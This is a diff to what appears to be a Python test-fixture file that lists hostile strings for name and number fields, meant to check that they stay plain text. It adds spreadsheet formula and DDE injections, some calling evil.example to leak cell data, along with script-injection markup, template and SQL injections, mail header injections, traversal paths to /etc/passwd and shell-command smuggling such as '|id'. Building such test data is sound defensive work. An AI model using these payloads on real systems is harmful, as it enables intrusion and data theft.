@@ -1,5 +1,7 @@
 """Texts that people, or their software, put into name and number fields. None may be more than text anywhere."""
 
+# ruff: noqa: E501 - tables of strings read better side by side
+
 HOSTILE = (
     # formulas
     "=1+1",
@@ -101,3 +103,158 @@ HOSTILE = (
     "2026-03-12",
     "TRUE",
 )
+
+_FORMULAS = (
+    "1+1",
+    "SUM(A1:A9)",
+    'HYPERLINK("http://evil.example?"&A1,"click")',
+    "cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    'IMPORTXML("http://evil.example","//a")',
+    'WEBSERVICE("http://evil.example")',
+    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
+)
+_FORMULA_STARTS = (
+    *"=+-@＝＋－＠﹦﹢﹣﹫",
+    *(
+        "\t=",
+        "\r=",
+        "\n=",
+        "\r\n=",
+        "\x00=",
+        " =",
+        "\u00a0=",
+        "\u3000=",
+        "\u2009+",
+        "'=",
+        "''=",
+        "'\t=",
+        "\v=",
+        "\f=",
+    ),
+)
+_MARKUP = (
+    *(f"<{tag}>" for tag in ("script", "b", "iframe", "object", "embed", "style", "base", "form", "svg", "math")),
+    *(f"<{tag} src=x onerror=alert(1)>" for tag in ("img", "video", "audio", "input", "body", "details")),
+    *(f"</{tag}><h1>x</h1>" for tag in ("td", "title", "style", "p", "a", "svg", "li", "html", "table", "strong")),
+    *(f"{quote} onload=alert(1) x={quote}" for quote in ('"', "'", "`", "&quot;", "&#34;", "&#x22;")),
+    *(f"{scheme}:alert(1)" for scheme in ("javascript", "JaVaScRiPt", "vbscript", "data", "java\tscript", "file")),
+    "<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e 'x'>]>", "&e;", "&#0;",
+    "<scr<script>ipt>", "<svg/onload=alert`1`>", "＜script＞alert(1)＜/script＞", "<script\x20>", "%3Cscript%3E",
+    "\\u003cscript\\u003e", "<a href='//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh>",
+    "<r><t>=1+1</t></r>", "<f>1+1</f>", "<v>1</v>", "</t></is></c><c><f>1</f></c>", "<t xml:space='x'>",
+)  # fmt: skip
+_TEMPLATES = (
+    *(f"{{{{ {words} }}}}" for words in ("7*7", "self", "config", "customer_name", "''.__class__", "range(10**9)")),
+    *(f"{{% {words} %}}" for words in ("raw", "endraw", "include '/etc/passwd'", "import os", "set x = 1", "block opening")),
+    "{{{{", "}}}}", "{%", "%}", "{#", "#}", "{{ x|safe }}", "{% raw %}{{ 7*7 }}{% endraw %}", "${{7*7}}", "#{7*7}", "<%= 7*7 %>",
+    "%s", "%n", "%(customer_id)s", "{0}", "{customer_id}", "{0.__class__}", "$customer_id", "\\1", "\\g<0>", "{{ '\\x41' }}",
+)  # fmt: skip
+_HEADERS = (
+    *(f"Jane{end}{name}: evil@evil.example" for end in ("\r\n", "\n", "\r", "\r\n ", "\u2028", "\x85")
+      for name in ("Bcc", "Cc", "To", "Reply-To")),
+    *(f"Jane{end}{end}--=_o2c_x{end}Content-Type: text/html{end}{end}<b>x</b>" for end in ("\r\n", "\n")),
+    "%0d%0aBcc:evil@evil.example", "%0ABcc: evil@evil.example", "\\r\\nBcc: evil@evil.example", "Jane\x00Bcc: evil@evil.example",
+    "=?utf-8?q?=0D=0ABcc:_evil=40evil.example?=", "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=", "=?x?", "=?utf-8?q??=",
+    "--=_o2c_", "--=_o2cm_x--", ".\r\nMAIL FROM:<evil@evil.example>", "\r\n.\r\nQUIT", "Subject: other", "From: other",
+)  # fmt: skip
+_ADDRESSES = (
+    *(f"ap@good.example{mark}evil@evil.example" for mark in (",", ";", " ", ", ", "\n", "\r\n", "\t", ">", "><", "\x00", "%2C")),
+    *(f"{name}<evil@evil.example>" for name in ("", "ap@good.example ", '"ap@good.example" ', "ap@good.example, ", "(x)")),
+    *(f"{local}@evil.example" for local in ('"a b"', "a..b", ".a", "a.", "a@b", "a%b", "a!b", "a\\b", "a b", "a(b)", "a:b")),
+    *(f"ap@{domain}" for domain in ("evil", "[127.0.0.1]", "evil..example", "-evil.example", "evil-.example", "evil.example.",
+                                    "e vil.example", "evil.exam\u200bple", "evil.example/x", "evil.example?x", "evil.123")),
+    "@evil.example:ap@good.example", "ap@good.example@evil.example", "ap＠good.example", "ap@good。example", "ap@gооd.example",
+    "ap@ɢood.example", "undisclosed-recipients:;", "postmaster", "a" * 65 + "@evil.example", "a@" + "b" * 64 + ".example",
+    "a@" + "b." * 130 + "example", "évil@evil.example", "ap@\u202eelpmaxe.live", "<ap@good.example", "ap@good.example (evil@evil.example)",
+)  # fmt: skip
+_QUERIES = (
+    *(f"x{quote}; drop table letters; --" for quote in ("'", '"', "`", "]", ")", "\\'", "''", '""')),
+    *(f"x{quote} or {quote}1{quote}={quote}1" for quote in ("'", '"', "`")),
+    "1; attach '/etc/passwd' as x", "' union select * from letters --", "/* */", "--", "#", "x\x00'; --", "$$; drop table x; $$",
+    ":name", "?", "%s", "'||(select 1)||'", "\\", "\\\\'", "read_csv('/etc/passwd')", "copy x to '/tmp/x'", "pragma database_list",
+    "select", "order by", 'a"b', "a'b", "a`b", "a.b", "a b", "main.letters", "0x41", "true", "null", "NULL",
+)  # fmt: skip
+_PATHS = (
+    *(
+        f"{up * 3}etc/passwd"
+        for up in ("../", "..\\", "%2e%2e/", "..;/", "....//", "..%2f", "..\u2215", "..\uff0f")
+    ),
+    *(
+        "AUX",
+        "NUL",
+        "PRN",
+        "COM1",
+        "LPT1.txt",
+        "con.eml",
+        "nul.pdf",
+        "..",
+        "...",
+        "~",
+        "~/x",
+        "-rf",
+        "--help",
+        " ",
+        "",
+        "\t",
+    ),
+    *(
+        "/dev/null",
+        "/proc/self/environ",
+        "\\\\evil\\share",
+        "file:///etc/passwd",
+        "C:x",
+        "x:y",
+        "x.eml",
+        "x.pdf\x00.exe",
+    ),
+    *(
+        "|id",
+        "&& id",
+        "x;id",
+        "x\nid",
+        "$IFS",
+        "!!",
+        "*",
+        "?",
+        "[a-z]",
+        "{a,b}",
+        "<x",
+        ">x",
+        "x.",
+        "x ",
+        ".x",
+        "\ufeffx",
+    ),
+)
+_MARKS = (
+    *(f"Acme{mark}Ltd" for mark in (
+        "\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\u034f", "\u180e", "\ufe0f", "\u202a", "\u202b", "\u202d", "\u2066",
+        "\u2067", "\u2068", "\u061c", "\u200e", "\u200f", "\u2028", "\u2029", "\x85", "\x1b[2J", "\x08\x08", "\x7f", "\ufffd",
+        "\ufffe", "\U000e0041", "\U0001f3f4", "\U0010ffff", "\x00", "\x0b", "\x0c", "\x1a",
+    )),
+    "Аcme Ltd", "Αcme Ltd", "ⅠⅭⅯ", "Ｆｕｌｌ", "𝐀𝐜𝐦𝐞", "ﬁnance", "İstanbul", "ıstanbul", "straße", "ſ", "K", "ǅ",
+    "שלום בע\"מ", "شركة ١٢٣", "فروشگاه", "दुकान", "ร้านค้า", "한국상사", "上海贸易有限公司", "東京商事", "Ελλάδα ΑΕ", "ООО Ромашка",
+    "👩", "👩🏽‍🚒", "🇩🇪", "1️⃣", "\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "e\u0301", "\u1100\u1161", "\ud7ff\ue000",
+    "x" * 5000, "ab " * 2000, "\n" * 300, " " * 300, "=" * 300, "'" * 300, "0" * 40, "9" * 400, "-1e999", "Infinity", "+inf",
+    "1_000", "１２３", "1,5", "−5", "(5)", "5-", "$5", "1/2", "12:30", "1e-7", "00123", "=", "+", "-", "@",
+)  # fmt: skip
+
+# All of them: more than five hundred, each once.
+EVERY_HOSTILE = tuple(
+    dict.fromkeys(
+        (
+            *HOSTILE,
+            *(start + formula for start in _FORMULA_STARTS for formula in _FORMULAS),
+            *_MARKUP,
+            *_TEMPLATES,
+            *_HEADERS,
+            *_ADDRESSES,
+            *_QUERIES,
+            *_PATHS,
+            *_MARKS,
+        )
+    )
+)
+# Halves of characters: Python can hold them, a frame, a file or a mail cannot.
+HALVES = ("\ud800", "x\udfffy", "\udc00\ud800", "=\ud800")
